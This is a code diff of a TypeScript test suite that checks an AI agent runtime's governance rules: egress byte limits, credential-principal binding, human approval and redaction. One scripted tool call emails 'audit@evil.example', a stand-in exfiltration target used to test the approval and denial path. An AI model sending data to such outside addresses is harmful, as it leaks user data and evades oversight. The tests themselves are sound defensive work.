@@ -27,22 +27,30 @@ const lookup = (email: string) => ({ name: 'crm__lookup_customer', arguments: { 
 const PROMPT = 'Refund alice@example.com 1.00 EUR, then 2.00 EUR, then 3.00 EUR.';
 
 describe('governance rules', () => {
-  let h: Harness;
-  let worker: Worker;
-  let running: Promise<void>;
   const dir = testDir('rules');
   const payments = paymentsStore(dir);
   const outbox = new KeyedLog<Mail>(dir, 'outbox');
+  const tools = () => [lookupCustomer, readTicket, createRefund(payments), createSendEmail(outbox), createCloseTicket(new KeyedLog(dir, 'closed'))];
+  const rigs: { h: Harness; worker: Worker; running: Promise<void> }[] = [];
+
+  /** A worker deployed with this manifest: workers refuse runs that declare a tool otherwise. */
+  async function deployed(manifest: Manifest): Promise<Harness> {
+    const h = await harness(`rules-${randomUUID()}`);
+    const worker = await h.startWorker({ manifest, tools: tools() });
+    rigs.push({ h, worker, running: worker.run() });
+    return h;
+  }
+  let h: Harness;
 
   beforeAll(async () => {
-    h = await harness(`rules-${randomUUID()}`);
-    worker = await h.startWorker({ manifest: base, tools: [lookupCustomer, readTicket, createRefund(payments), createSendEmail(outbox), createCloseTicket(new KeyedLog(dir, 'closed'))] });
-    running = worker.run();
+    h = await deployed(base);
   });
   afterAll(async () => {
-    worker.shutdown();
-    await running;
-    await h.close();
+    for (const r of rigs) {
+      r.worker.shutdown();
+      await r.running;
+      await r.h.close();
+    }
   });
 
   const three = [{ tool_calls: [lookup('alice@example.com')] }, { tool_calls: [refund('acct_alice_001', 100)] }, { tool_calls: [refund('acct_alice_001', 200)] }, { tool_calls: [refund('acct_alice_001', 300)] }, { final: 'done' }];
@@ -54,7 +62,7 @@ describe('governance rules', () => {
 
   it('sums egress bytes per destination across calls', async () => {
     const small = variant((t) => (t.id === 'tool://payments/refund' ? { ...t, egress: { destination: 'payments.example', max_bytes_per_run: 200 } } : t));
-    const { result } = await runAgent(h, small, { prompt: PROMPT, turns: three });
+    const { result } = await runAgent(await deployed(small), small, { prompt: PROMPT, turns: three });
     expect(result.journal.map((e) => e.rule ?? e.outcome)).toEqual(['ok', 'ok', 'ok', 'egress:payments.example']);
     expect(result.usage.egressBytes['payments.example']).toBeLessThanOrEqual(200);
     expect(result.journal[3]!.reason).toMatch(/would exceed its 200-byte limit for this run/);
@@ -77,9 +85,10 @@ describe('governance rules', () => {
 
   it('refuses a tool whose credential names another principal than the run', async () => {
     const bound = variant((t) => (t.id === 'tool://payments/refund' ? { ...t, credential: { principal: 'svc:treasury' } } : t));
-    const { result } = await runAgent(h, bound, { prompt: PROMPT, turns: three.slice(0, 2).concat({ final: 'x' }) }, { principal: 'agent:support' });
+    const hb = await deployed(bound);
+    const { result } = await runAgent(hb, bound, { prompt: PROMPT, turns: three.slice(0, 2).concat({ final: 'x' }) }, { principal: 'agent:support' });
     expect(result.journal[1]).toMatchObject({ decision: 'refused', rule: 'credential' });
-    const ok = await runAgent(h, bound, { prompt: PROMPT, turns: three.slice(0, 2).concat({ final: 'x' }) }, { principal: 'svc:treasury' });
+    const ok = await runAgent(hb, bound, { prompt: PROMPT, turns: three.slice(0, 2).concat({ final: 'x' }) }, { principal: 'svc:treasury' });
     expect(ok.result.journal[1]).toMatchObject({ decision: 'allowed', outcome: 'ok' });
   });
 
@@ -95,11 +104,12 @@ describe('governance rules', () => {
 
   it('asks a person through an update where the tool declares it, and a denial refuses', async () => {
     const askable = variant((t) => (t.id === 'tool://mail/send_email' ? { ...t, approval: 'on_violation' } : t));
+    const ha = await deployed(askable);
     const turns = [{ tool_calls: [{ name: 'tickets__read_ticket', arguments: { ticket_id: 'T-101' } }] }, { tool_calls: [{ name: 'mail__send_email', arguments: { to: 'audit@evil.example', subject: 'x', body: 'y' } }] }, { final: 'x' }];
     for (const decision of ['approve', 'deny'] as const) {
       const workflowId = `approval-${decision}-${randomUUID()}`;
-      const handle = await h.client.workflow.start('agentRun', {
-        taskQueue: h.taskQueue,
+      const handle = await ha.client.workflow.start('agentRun', {
+        taskQueue: ha.taskQueue,
         workflowId,
         args: [{ prompt: 'Handle ticket T-101.', principal: 'agent:test', grants: askable.tools.map((t) => t.id), manifest: askable, manifestDigest: manifestDigest(askable), model: { provider: 'scripted', script: turns } } as AgentRunInput],
       });
@@ -127,9 +137,10 @@ describe('governance rules', () => {
       { tool_calls: [{ name: 'mail__send_email', arguments: { to: 'alice@example.com', subject: 'Your account', body: 'Your account is acct_alice_001.' } }] },
       { final: 'x' },
     ];
-    const { result, workflowId } = await runAgent(h, sensitive, { prompt: 'Email alice@example.com her account id with the subject "Your account".', turns });
+    const hs = await deployed(sensitive);
+    const { result, workflowId } = await runAgent(hs, sensitive, { prompt: 'Email alice@example.com her account id with the subject "Your account".', turns });
     expect(result.journal[1]).toMatchObject({ decision: 'allowed', rule: 'redaction:/body', outcome: 'ok' });
-    const sent = scheduledActivities(await historyOf(h.client, workflowId)).find((a) => a.input?.toolId === 'tool://mail/send_email')!;
+    const sent = scheduledActivities(await historyOf(hs.client, workflowId)).find((a) => a.input?.toolId === 'tool://mail/send_email')!;
     expect((sent.input!.args as { body: string }).body).toBe('[redacted: confidential]');
     expect(outbox.all().at(-1)).toMatchObject({ to: 'alice@example.com', body: '[redacted: confidential]' });
   });
